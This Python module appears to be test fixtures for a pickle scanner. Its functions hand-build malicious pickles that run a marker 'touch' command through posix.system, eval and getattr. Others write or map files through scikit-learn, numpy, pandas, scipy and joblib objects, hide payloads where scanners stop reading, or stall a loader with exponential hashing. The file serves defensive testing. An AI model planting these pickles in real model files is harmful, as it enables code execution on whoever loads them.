"""Pickles that would run code when they are loaded, or when their model predicts.

Each function writes bytes by hand: what no library writes is the point. `payload(mark)` is the instructions that touch
the file `mark`. The shapes are those that once got past a look at the file, and their relatives.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

PROTO = b"\x80\x04"
WRAPPER = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
NDARRAY = b"cnumpy\nndarray\n"


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    """A global of protocol 4, with names from the stack."""
    return text(module) + text(attribute) + b"\x93"


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def payload(mark: str) -> bytes:
    """Instructions that leave one value on the stack."""
    return name("posix", "system") + text(f"touch {mark}") + b"\x85R"


def hidden(mark: str) -> bytes:
    return payload(mark) + b"0N."


def dtype(letters: str) -> bytes:
    return name("numpy", "dtype") + text(letters) + b"\x85R"


def whole_dtype(letters: str, flags: int = 0, fields: bytes = b"N", names: bytes = b"N") -> bytes:
    """A dtype with a state of NumPy: (version, byte order, subdtype, names, fields, size, alignment, flags)."""
    made = name("numpy", "dtype") + b"(" + text(letters) + b"\x89\x88tR"
    state = b"(K\x03" + text("|") + b"N" + names + fields + integer(-1) + integer(-1) + integer(flags) + b"tb"
    return made + state


def array_state(
    *, shape: bytes = b"K\x05\x85", kind: bytes | None = None, align: bytes = b"N", more: bytes = b""
) -> bytes:
    pairs = [
        (text("subclass"), NDARRAY),
        (text("shape"), shape),
        (text("order"), text("C")),
        (text("dtype"), kind or whole_dtype("u1")),
        (text("allow_mmap"), b"\x89"),
        (text("numpy_array_alignment_bytes"), align),
    ]
    return b"}(" + b"".join(key + value for key, value in pairs) + more + b"u"


def cover(data: bytes) -> bytes:
    """`data` as the content of a bytes object: a reader that continues inside of it finds instructions."""
    return b"B" + struct.pack("<I", len(data)) + data + b"."


def arguments() -> bytes:
    return b"(" + NDARRAY + b"K\x05\x85" + text("C") + dtype("u1") + b"\x89Nt"


def wrapper_called(mark: str) -> bytes:
    return PROTO + WRAPPER + arguments() + b"R}" + text("x") + b"K\x01sb" + cover(hidden(mark))


def wrapper_by_partial(mark: str) -> bytes:
    made = name("functools", "partial") + WRAPPER + b"\x85R" + arguments() + b"R"
    return PROTO + made + array_state() + b"b" + cover(hidden(mark))


def wrapper_by_max(mark: str) -> bytes:
    made = name("builtins", "max") + b"(" + WRAPPER + WRAPPER + b"tR" + arguments() + b"R"
    return PROTO + made + array_state() + b"b" + cover(hidden(mark))


def wrapper_twice(mark: str) -> bytes:
    small = array_state(shape=b"K\x05\x85")
    return PROTO + WRAPPER + b")\x81\x94" + b"}" + text("x") + b"K\x01sb" + small + b"b" + cover(hidden(mark))


def wrapper_with_slots(mark: str) -> bytes:
    return PROTO + WRAPPER + b")\x81N" + array_state() + b"\x86b" + cover(hidden(mark))


def array_behind_a_frame(mark: str) -> bytes:
    inner = WRAPPER + b")\x81" + array_state(shape=integer(1000) + b"\x85") + b"b"
    body = inner + hidden(mark)
    return (
        PROTO + b"\x95" + struct.pack("<Q", len(body)) + body + b"\0" * (1000 - len(hidden(mark))) + b"." + b"\0" * 1000
    )


def nested_in_objects(mark: str) -> bytes:
    kind = whole_dtype("O8", flags=63)
    size = integer(len(payload(mark))) + b"\x85"
    nested = PROTO + WRAPPER + b")\x81" + array_state(shape=size) + b"b" + payload(mark) + b"."
    return PROTO + WRAPPER + b")\x81" + array_state(shape=b"K\x01\x85", kind=kind) + b"b" + nested + b"."


def long_line(mark: str) -> bytes:
    hid = hidden(mark)
    return PROTO + b"V" + b"A" * 65536 + b"B" + struct.pack("<I", len(hid) + 1) + b"\n" + hid + b"."


def alignment_by_constructor(mark: str) -> bytes:
    state = b"}(" + text("shape") + b"K\x05\x85" + text("dtype") + dtype("u1") + b"u"
    tail = b"\x05\0\0\0\0B" + struct.pack("<I", len(hidden(mark)) + 1) + b"\0" + hidden(mark) + b"."
    called = b"(" + NDARRAY + b"K\x05\x85" + text("C") + dtype("u1") + b"\x89K\x10t"
    return PROTO + WRAPPER + called + b"R" + state + b"b" + tail


def key_made(mark: str) -> bytes:
    made = name("builtins", "str") + text("shape") + b"\x85R" + b"K\x06\x85"
    return PROTO + WRAPPER + b")\x81" + array_state(shape=b"K\x01\x85", more=made) + b"b" + b"x" + cover(hidden(mark))


def key_twice(mark: str) -> bytes:
    more = text("shape") + b"K\x06\x85"
    return PROTO + WRAPPER + b")\x81" + array_state(shape=b"K\x01\x85", more=more) + b"b" + b"x" + cover(hidden(mark))


def dtype_changed(mark: str) -> bytes:
    kind = name("numpy", "dtype") + b"(" + text("V8") + b"\x89\x88tR\x94"
    again = b"(K\x03" + text("|") + b"NNN" + integer(2) + integer(-1) + integer(0) + b"tb"
    return PROTO + WRAPPER + b")\x81" + array_state(kind=kind + again) + b"b" + b"0" * 10 + cover(hidden(mark))


def plain(mark: str) -> bytes:
    return PROTO + payload(mark) + b"."


def by_stack(mark: str) -> bytes:
    return PROTO + stacked("posix", "system") + text(f"touch {mark}") + b"\x85R."


def by_instance(mark: str) -> bytes:
    return f"(S'touch {mark}'\niposix\nsystem\n.".encode()


def by_object(mark: str) -> bytes:
    return b"(" + name("posix", "system") + text(f"touch {mark}") + b"o."


def by_dotted_name(mark: str) -> bytes:
    return PROTO + stacked("joblib.numpy_pickle", "os.system") + text(f"touch {mark}") + b"\x85R."


def by_old_names(mark: str) -> bytes:
    return name("__builtin__", "eval") + text(f"__import__('os').system('touch {mark}')") + b"\x85R."


def by_getattr(mark: str) -> bytes:
    called = name("builtins", "getattr") + b"(" + name("posixpath", "os") + text("system") + b"tR"
    return PROTO + called + text(f"touch {mark}") + b"\x85R."


def class_attribute(mark: str) -> bytes:
    """A state of a class, so that every future instance calls the function in the state."""
    kind = name("sklearn.linear_model._logistic", "LogisticRegression")
    state = b"N}" + text("predict") + name("posix", "system") + b"s\x86b"
    return PROTO + kind + state + b"0" + kind + b")\x81."


def module_attribute(mark: str) -> bytes:
    return PROTO + name("sklearn.linear_model", "_base") + b"}" + text("x") + b"K\x01sb."


def extension(mark: str) -> bytes:
    return PROTO + b"\x82\x01" + text(f"touch {mark}") + b"\x85R."


def persistent(mark: str) -> bytes:
    return b"Pposix.system\n."


def data_frame() -> bytes:
    return name("pandas.core.frame", "DataFrame") + b")\x81}" + text("_typ") + text("dataframe") + b"sb"


def scorer(method: str, called: bool = True) -> bytes:
    score = name("sklearn.metrics._classification", "accuracy_score")
    kind = name("sklearn.metrics._scorer", "_Scorer")
    if called:
        return kind + b"(" + score + b"K\x01}" + text(method) + b"tR"
    state = b"}(" + text("_score_func") + score + text("_sign") + b"K\x01" + text("_kwargs") + b"}"
    return kind + b")\x81" + state + text("_response_method") + text(method) + b"ub"


def eval_by_scorer(mark: str) -> bytes:
    code = f"@estimator.__class__.__init__.__globals__['sys'].modules['posix'].system('touch {mark}')"
    return PROTO + scorer("eval") + data_frame() + text(code) + b"N\x87R."


def file_by_scorer(mark: str) -> bytes:
    return PROTO + scorer("to_csv") + data_frame() + text(mark) + b"N\x87R."


def tofile_when_it_predicts(mark: str) -> bytes:
    """A function transformer whose function is a scorer that calls `array.tofile(path)` when the model predicts."""
    function = scorer("tofile", called=False)
    state = b"}(" + text("func") + function + text("kw_args") + b"}" + text("X") + text(mark) + b"su"
    return PROTO + name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81" + state + b"b."


def stacking_of_anything(mark: str) -> bytes:
    state = (
        b"}("
        + text("estimators_")
        + b"]"
        + text(mark)
        + b"a"
        + text("stack_method_")
        + b"]"
        + text("format_map")
        + b"au"
    )
    return PROTO + name("sklearn.ensemble._stacking", "StackingClassifier") + b")\x81" + state + b"b."


def guard_changed_later(mark: str) -> bytes:
    """The list is harmless when it becomes the state, and gets its harmful item later, through the memo."""
    state = b"}(" + text("estimators_") + b"]" + text("stack_method_") + b"]\x94" + text("predict") + b"au"
    made = name("sklearn.ensemble._stacking", "StackingClassifier") + b")\x81" + state + b"b"
    return PROTO + made + b"h\x00" + text("tofile") + b"a0."


def file_by_vectorizer(mark: str) -> bytes:
    state = b"}" + text("input") + text("filename") + b"s"
    return PROTO + name("sklearn.feature_extraction.text", "CountVectorizer") + b")\x81" + state + b"b."


def booster_of_a_file(mark: str) -> bytes:
    return PROTO + name("xgboost.core", "Booster") + b"(}N" + text(mark) + b"tR."


def memory_map(mark: str) -> bytes:
    return PROTO + name("numpy", "memmap") + b"(" + text(mark) + text("u1") + text("w+") + b"K\x00K\x08tR."


def memory_map_new(mark: str) -> bytes:
    return PROTO + name("numpy", "memmap") + b"(" + text(mark) + text("u1") + text("w+") + b"K\x00K\x08t\x81."


def memory_map_rebuilt(mark: str) -> bytes:
    made = name("copyreg", "__newobj__") + b"(" + name("numpy", "memmap")
    return PROTO + made + text(mark) + text("u1") + text("w+") + b"K\x00K\x08tR."


def memory_map_as_index(mark: str) -> bytes:
    options = b"}(" + text("filename") + text(mark) + text("mode") + text("w+") + text("shape") + b"K\x08u"
    return PROTO + name("pandas.core.indexes.base", "_new_Index") + name("numpy", "memmap") + options + b"\x86R."


def numpy_loads(mark: str) -> bytes:
    return PROTO + name("numpy", "load") + b"(" + text(mark) + b"N\x88tR."


def ufunc_by_name(mark: str) -> bytes:
    return PROTO + name("numpy._core", "_ufunc_reconstruct") + text("antigravity") + text("x") + b"\x86R."


def distribution_text(mark: str) -> bytes:
    code = f"import os; os.system('touch {mark}')"
    state = b"}" + text("_parse_arg_template") + text(code) + b"s"
    return PROTO + name("scipy.stats._continuous_distns", "norm_gen") + b")\x81" + state + b"b."


def distribution_pairs(mark: str) -> bytes:
    """The same as a list of pairs, which `dict.update` also accepts."""
    code = f"import os; os.system('touch {mark}')"
    state = b"]" + text("_parse_arg_template") + text(code) + b"\x86a"
    return PROTO + name("scipy.stats._continuous_distns", "norm_gen") + b")\x81" + state + b"b."


def guard_of_lists(mark: str) -> bytes:
    """A guarded attribute that doubles a list forty times: its repr would take forever."""
    state = (
        b"}"
        + text("stack_method_")
        + b"]\x94"
        + b"".join(b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e\x94" for n in range(40))
        + b"s"
    )
    return PROTO + name("sklearn.ensemble._stacking", "StackingClassifier") + b")\x81" + state + b"b."


def objects_from_bytes(mark: str) -> bytes:
    """An array of pointers from the file: `dtype('O')` with a state that claims to hold no objects."""
    kind = (
        name("numpy", "dtype")
        + b"("
        + text("O8")
        + b"\x89\x88tR(K\x03"
        + text("|")
        + b"NNN"
        + integer(-1)
        + integer(-1)
    )
    kind += integer(0) + b"tb"
    array = name("numpy._core.multiarray", "_reconstruct") + b"(" + NDARRAY + b"K\x00\x85C\x01btR"
    return PROTO + array + b"(K\x01K\x01\x85" + kind + b"\x89C\x08AAAAAAAAtb."


def fields_over_the_end(mark: str) -> bytes:
    fields = b"}" + text("a") + whole_dtype("O8", flags=63) + integer(4096) + b"\x86s"
    kind = whole_dtype("V8", fields=fields, names=text("a") + b"\x85", flags=0)
    return PROTO + WRAPPER + b")\x81" + array_state(kind=kind) + b"b" + b"A" * 64 + b"."


def array_built_twice(mark: str) -> bytes:
    made = name("numpy._core.multiarray", "_reconstruct") + b"(" + NDARRAY + b"K\x00\x85C\x01btR\x94"
    first = b"(K\x01K\x08\x85" + whole_dtype("u1") + b"\x89C\x08AAAAAAAAtb"
    second = b"(K\x01K\x01\x85" + whole_dtype("f8") + b"\x89C\x08AAAAAAAAtb"
    return PROTO + made + first + second + b"."


def key_for_ever(mark: str) -> bytes:
    """A tuple doubled forty times: hashing it takes 2⁴⁰ steps."""
    return (
        PROTO
        + b"}"
        + b")"
        + b"\x940h\x00h\x00\x86"
        + b"".join(b"\x94" + b"0" + b"h" + bytes([n]) * 1 + b"h" + bytes([n]) + b"\x86" for n in range(1, 40))
        + b"K\x01s."
    )


def array_without_end(mark: str) -> bytes:
    return PROTO + WRAPPER + b")\x81" + array_state(shape=b"\x8a\x06\xff\xff\xff\xff\xff\x00\x85") + b"b."


def old_format(mark: str) -> bytes:
    made = name("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81"
    state = b"}(" + text("filename") + text(mark) + text("subclass") + NDARRAY + text("allow_mmap") + b"\x89u"
    return PROTO + made + state + b"b."


Builder = Callable[[str], bytes]
BY_JOBLIB: tuple[Builder, ...] = (
    wrapper_called, wrapper_by_partial, wrapper_by_max, wrapper_twice, wrapper_with_slots, array_behind_a_frame,
    nested_in_objects, alignment_by_constructor, key_made, key_twice, dtype_changed, fields_over_the_end,
    array_without_end, old_format,
)  # fmt: skip
BY_PICKLE: tuple[Builder, ...] = (
    long_line, plain, by_stack, by_instance, by_object, by_dotted_name, by_old_names, by_getattr, class_attribute,
    module_attribute, extension, persistent, eval_by_scorer, file_by_scorer, tofile_when_it_predicts,
    stacking_of_anything, guard_changed_later, file_by_vectorizer, booster_of_a_file, memory_map, memory_map_new,
    memory_map_rebuilt, memory_map_as_index, numpy_loads, distribution_pairs, guard_of_lists,
    ufunc_by_name, objects_from_bytes, array_built_twice, key_for_ever,
)  # fmt: skip
